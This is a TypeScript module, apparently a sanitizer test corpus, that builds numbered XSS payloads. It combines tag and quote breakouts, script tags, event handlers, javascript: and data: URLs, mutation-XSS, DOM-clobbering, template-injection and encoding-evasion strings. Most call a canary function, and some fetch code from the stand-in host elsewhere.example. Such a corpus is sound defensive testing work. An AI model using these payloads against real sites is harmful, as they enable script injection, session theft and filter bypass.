/**
 * Texts that would run as script wherever a page took them for more than text: ways of starting (elements, addresses, styles,
 * templates, strings of script, encodings), each behind ways out of where it stands, each with ways of calling. Every one has
 * a number of its own, which it gives to `ran`, or asks another origin for. OWASP XSS Filter Evasion and DOM clobbering; mutation XSS as in DOMPurify's tests.
 */

/** A payload: well-formed, at most 200 UTF-16 units, so that it goes into every field. */
export interface Payload {
  readonly n: number;
  readonly text: string;
}

/** The origin that is never to be asked for anything. */
export const ELSEWHERE = 'elsewhere.example';

/** Numbers have four digits: none is the beginning of another. */
const FIRST = 1000;
/** Payloads of each way of starting. */
const OF_EACH = 20;

/** Neither quotation marks nor spaces, so that they go into every attribute. */
const CALLS: readonly ((n: number) => string)[] = [
  (n) => `ran(${n})`,
  (n) => `top.ran(${n})`,
  (n) => `self[\`ran\`](${n})`,
  (n) => `eval(\`ran(${n})\`)`,
  (n) => `[${n}].map(top.ran)`,
  (n) => `Function(\`ran(${n})\`)()`,
  (n) => `setTimeout(\`ran(${n})\`)`,
  (n) => `ran(${n}),alert(${n})`,
  (n) => `r\\u0061n(${n})`,
];

/** Out of an attribute, an element of text, a comment, a script; the first stays where it is. */
const WAYS_OUT = [
  '',
  '">',
  "'>",
  '</textarea>',
  '</title>',
  '</script>',
  '</style>',
  '-->',
  ']]>',
  '"></option></select>',
  '</noscript>',
  '\'">',
];

type Shape = (js: string, n: number) => string;

const SCRIPTS: readonly Shape[] = [
  (js) => `<script>${js}</script>`,
  (js) => `<ScRiPt>${js}</sCrIpT>`,
  (js) => `<script/x>${js}</script/x>`,
  (js) => `<script type=module>${js}</script>`,
  (js) => `<script src="data:text/javascript,${js}"></script>`,
  (_, n) => `<script src=//${ELSEWHERE}/${n}.js></script>`,
  (js) => `<scr<script>ipt>${js}</scr</script>ipt>`,
  (js) => `<svg><script>${js}</script></svg>`,
  (js) => `<svg><script href="data:,${js}"/></svg>`,
  (js) => `<script\n>${js}</script\t>`,
];

const HANDLERS: readonly Shape[] = [
  (js) => `<svg onload=${js}>`,
  (js) => `<svg/onload="${js}">`,
  (js, n) => `<img src=ran-${n} onerror=${js}>`,
  (js, n) => `<IMG SRC='ran-${n}' OnErRoR='${js}'>`,
  (js, n) => `<img/src=ran-${n}/onerror=${js}>`,
  (js, n) => `<img src=ran-${n} onerror\n=\n"${js}">`,
  (_, n) => `<img src=ran-${n} onerror=&#114;&#x61;&#110;(${n})>`,
  (_, n) => `<img src=ran-${n} onerror="\\u0072an(${n})">`,
  (js, n) => `<image src=ran-${n} onerror=${js}>`,
  (js, n) => `<video src=ran-${n} onerror=${js}>`,
  (js, n) => `<video><source src=ran-${n} onerror=${js}></video>`,
  (js, n) => `<audio src=ran-${n} onerror=${js}>`,
  (js) => `<body onload=${js}>`,
  (js) => `<body onpageshow=${js}>`,
  (js) => `<input autofocus onfocus=${js}>`,
  (js) => `<select autofocus onfocus=${js}>`,
  (js) => `<details open ontoggle=${js}>x</details>`,
  (js) => `<marquee onstart=${js}>x</marquee>`,
  (js) => `<x tabindex=1 autofocus onfocus=${js}>x</x>`,
  (js) => `<style>@keyframes r{}</style><x style="animation:r 1s" onanimationstart=${js}>x</x>`,
  (js) => `<svg><animate onbegin=${js} attributeName=x dur=1s>`,
  (js) => `<object data=ran onerror=${js}></object>`,
  (js) => `<link rel=stylesheet href=ran onerror=${js}>`,
  (js) => `<x onpointerover=${js} onclick=${js}>x</x>`,
];

const ADDRESSES: readonly Shape[] = [
  (js) => `<a href="javascript:${js}">x</a>`,
  (js) => `<a href="java&Tab;script:${js}">x</a>`,
  (js) => `<a href=" \u0001javascript:${js}" target=_top>x</a>`,
  (js) => `<svg><a xlink:href="javascript:${js}"><text y=20>x</text></a></svg>`,
  (js) => `<iframe src="javascript:${js}"></iframe>`,
  (js) => `<iframe src="JaVaScRiPt&colon;${js}"></iframe>`,
  (_, n) => `<iframe srcdoc="<script>parent.ran(${n})</script>"></iframe>`,
  (_, n) => `<iframe srcdoc="&lt;svg onload=parent.ran(${n})&gt;"></iframe>`,
  (_, n) => `<iframe src=//${ELSEWHERE}/${n}></iframe>`,
  (_, n) => `<iframe src="data:text/html,<script src=//${ELSEWHERE}/${n}></script>"></iframe>`,
  (_, n) => `<object data="data:text/html,<script src=//${ELSEWHERE}/${n}></script>"></object>`,
  (js) => `<embed src="javascript:${js}">`,
  (js) => `<form action="javascript:${js}"><button>x</button></form>`,
  (js) => `<form><button formaction="javascript:${js}">x</button></form>`,
  (_, n) => `<base href=//${ELSEWHERE}/${n}/><img src=x>`,
  (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
  (_, n) => `<meta http-equiv=refresh content="0;url=//${ELSEWHERE}/${n}">`,
  (_, n) => `<link rel=stylesheet href=//${ELSEWHERE}/${n}.css>`,
  (_, n) => `<link rel=prefetch href=//${ELSEWHERE}/${n}>`,
  (_, n) => `<style>@import'//${ELSEWHERE}/${n}';</style>`,
  (_, n) => `<div style="background:url(//${ELSEWHERE}/${n})">x</div>`,
  (_, n) => `<style>*{background:url(//${ELSEWHERE}/${n})}</style>`,
  (_, n) => `<img src=//${ELSEWHERE}/${n}.png>`,
  (js) => `javascript:${js}`,
  (js) => `JaVaScRiPt:${js}`,
  (js) => `\u0001java\nscri\tpt:${js}`,
  (js) => `javascript://%0A${js}`,
  (js) => `data:text/html,<script>${js}</script>`,
  (_, n) => `//${ELSEWHERE}/${n}`,
];

const MUTATIONS: readonly Shape[] = [
  (js) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;">`,
  (js) => `<noscript><p title="</noscript><img src=1 onerror=${js}>">`,
  (js) => `<form><math><mtext></form><form><mglyph><style></math><img src=1 onerror=${js}>`,
  (js) => `<svg></p><style><a id="</style><img src=1 onerror=${js}>">`,
  (js) => `<xmp><p title="</xmp><svg onload=${js}>"></xmp>`,
  (js) => `<template><script>${js}</script></template><svg onload=${js}>`,
  (js) => `<table><td><select><option><svg onload=${js}>`,
  (js) => `<p id="x\`<svg onload=${js}>"></p>`,
  (js) => `<!--><svg onload=${js}>-->`,
  (js) => `<![CDATA[<svg onload=${js}>]]>`,
  (js) => `<?xml version="1.0"?><svg onload=${js}>`,
  (js) => `<img id=body name=getElementById src=1 onerror=${js}>`,
];

const TEMPLATES: readonly Shape[] = [
  (js) => `{{constructor.constructor(\`${js}\`)()}}`,
  (js) => `\${${js}}<%=${js}%>#{${js}}`,
  (js) => `{{{"<svg onload=${js}>"}}}`,
  (js) => `[x](javascript:${js})`,
  (js, n) => `![x](ran-${n}"onerror="${js})`,
  (js) => `{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"${js}"}}}`,
  (js) => `{"__proto__":{"innerHTML":"<svg onload=${js}>"}}`,
  (js) => `';${js}//`,
  (js) => `";${js}//`,
  (js) => `\\';${js}//`,
  (js) => `\`;${js}//`,
  (js) => `*/${js}/*`,
  (js) => `\u2028${js}//`,
  (js) => `'-${js}-'`,
  (js) => ` onfocus=${js} autofocus x=`,
  (js) => `" onfocus="${js}" autofocus x="`,
  (js) => `' onfocus='${js}' autofocus x='`,
  (js, n) => `x" src="ran-${n}" onerror="${js}" x="`,
];

const ENCODINGS: readonly Shape[] = [
  (js) => `&lt;script&gt;${js}&lt;/script&gt;`,
  (js) => `&#60svg onload=${js}&#62`,
  (js) => `%3Csvg%20onload=${js}%3E`,
  (js) => `\\u003csvg onload=${js}\\u003e`,
  (js) => `\\x3csvg onload=${js}\\x3e`,
  (js) => `＜svg onload=${js}＞`,
  (js) => `<ſvg onload=${js}><ſcript>${js}</ſcript>`,
  (js) => `+ADw-svg onload=${js}+AD4-`,
  (js) => `<\u202Esvg onload=${js}>`,
  (js) => `<svg\u00A0onload=${js}>`,
  (js) => `<svg\fonload=${js}>`,
  (js) => `<\uFEFFsvg onload=${js}><svg onload=${js}>`,
  (js) => `%00<svg onload=${js}>`,
  (js) => `\uFFFD<svg onload=${js}>`,
];

const SHAPES = [...SCRIPTS, ...HANDLERS, ...ADDRESSES, ...MUTATIONS, ...TEMPLATES, ...ENCODINGS];

/** All of them, 20 of each way of starting, in order of number. */
export const PAYLOADS: readonly Payload[] = SHAPES.flatMap((shape, s) =>
  Array.from({ length: OF_EACH }, (_, i) => {
    const n = FIRST + s * OF_EACH + i;
    const out = WAYS_OUT[i % WAYS_OUT.length] ?? '';
    const call = CALLS[(s + i) % CALLS.length] as (typeof CALLS)[number];
    return { n, text: out + shape(call(n), n) };
  }),
);
